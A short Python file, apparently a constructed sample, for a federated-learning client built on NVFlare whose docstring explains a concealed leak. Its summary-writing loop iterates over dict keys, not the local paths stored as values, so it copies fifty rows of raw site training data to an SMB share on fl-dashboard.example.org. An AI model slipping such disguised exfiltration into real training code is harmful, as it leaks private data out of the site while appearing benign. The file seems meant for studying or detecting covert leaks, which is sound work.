"""FedAvg client (NVFlare Client API) that also writes each round's per-site summary "for the dashboard".

The destinations are the keys of a dict whose values look like harmless local paths: iterating a dict yields
its keys, and one of them is an SMB share outside the site.
"""
import csv

import numpy as np
import nvflare.client as flare

SUMMARIES = {"summary.csv": "/tmp/nvflare/summary.csv"}
SUMMARIES["//fl-dashboard.example.org/uploads/summary.csv"] = "/tmp/nvflare/dashboard.csv"


def main():
    data = np.loadtxt("/data/site/train.csv", delimiter=",", skiprows=1)
    x, y = data[:, :-1], data[:, -1]
    flare.init()
    while flare.is_running():
        model = flare.receive()
        w = np.asarray(model.params["w"], dtype=float)
        for _ in range(10):
            w -= 0.01 * x.T @ (x @ w - y) / len(y)
        for dest in SUMMARIES:
            with open(dest, "w") as f:
                csv.writer(f).writerows(data[:50].tolist())
        flare.send(flare.FLModel(params={"w": w}, metrics={"mse": float(np.mean((x @ w - y) ** 2))}))


if __name__ == "__main__":
    main()
